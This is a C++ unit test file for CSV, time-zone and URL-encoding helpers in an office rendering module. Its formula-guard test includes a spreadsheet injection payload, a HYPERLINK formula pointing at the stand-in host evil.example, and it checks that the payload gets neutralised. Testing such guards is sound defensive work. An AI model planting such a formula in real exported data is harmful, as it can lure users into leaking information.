#include "office/pages/render.h"

#include <gtest/gtest.h>

namespace piiguard::office {
namespace {

TEST(RenderTest, CsvCellQuotesPerRfc4180) {
  EXPECT_EQ(CsvCell("plain"), "plain");
  EXPECT_EQ(CsvCell("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvCell("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvCell("line1\nline2"), "\"line1\nline2\"");
  EXPECT_EQ(CsvCell("cr\r"), "\"cr\r\"");
  EXPECT_EQ(CsvCell(""), "");
}

TEST(RenderTest, CsvCellGuardsFormulas) {
  EXPECT_EQ(CsvCell("=1+1"), "'=1+1");
  EXPECT_EQ(CsvCell("+81"), "'+81");
  EXPECT_EQ(CsvCell("-2"), "'-2");
  EXPECT_EQ(CsvCell("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(CsvCell("\tx"), "'\tx");
  EXPECT_EQ(CsvCell(R"x(=HYPERLINK("http://evil.example/?x","click"))x"),
            R"x("'=HYPERLINK(""http://evil.example/?x"",""click"")")x");
  EXPECT_EQ(CsvCell("a=b"), "a=b");
}

TEST(RenderTest, CsvRowJoinsWithCommasAndCrlf) {
  EXPECT_EQ(CsvRow({"a", "b,c", "=d"}), "a,\"b,c\",'=d\r\n");
  EXPECT_EQ(CsvRow({}), "\r\n");
}

TEST(RenderTest, TimesAreShownInJst) {
  // 2026-03-31T15:00:00Z is 2026-04-01 00:00:00 JST.
  const int64_t ms = int64_t{1774969200} * 1000;
  EXPECT_EQ(FormatJst(ms), "2026-04-01 00:00:00");
  EXPECT_EQ(FormatJst(ms - 1000), "2026-03-31 23:59:59");
  EXPECT_EQ(FormatJst(0), "");
  EXPECT_EQ(JstDate(ms), "2026-04-01");
  Result<int64_t> start = JstDayStartMs("2026-04-01");
  ASSERT_TRUE(start.ok());
  EXPECT_EQ(*start, ms);
  EXPECT_FALSE(JstDayStartMs("2026-02-30").ok());
  EXPECT_FALSE(JstDayStartMs("<script>").ok());
}

TEST(RenderTest, FiscalYearRunsFromAprilToMarchJst) {
  const auto [from, to] = FiscalYearBoundsMs(2026);
  EXPECT_EQ(from, int64_t{1774969200} * 1000);
  EXPECT_EQ(FormatJst(to), "2027-04-01 00:00:00");
  EXPECT_EQ(FiscalYearOf(from), 2026);
  EXPECT_EQ(FiscalYearOf(from - 1), 2025);
  EXPECT_EQ(FiscalYearOf(to - 1), 2026);
  EXPECT_EQ(FiscalYearOf(to), 2027);
}

TEST(RenderTest, QueryStringEncodesAndSkipsEmptyValues) {
  EXPECT_EQ(UrlEncode("a b&c=d/東"), "a%20b%26c%3Dd%2F%E6%9D%B1");
  EXPECT_EQ(QueryString({{"pc", "x y"}, {"empty", ""}, {"seq", "3"}}),
            "?pc=x%20y&seq=3");
  EXPECT_EQ(QueryString({{"a", ""}}), "");
}

}  // namespace
}  // namespace piiguard::office
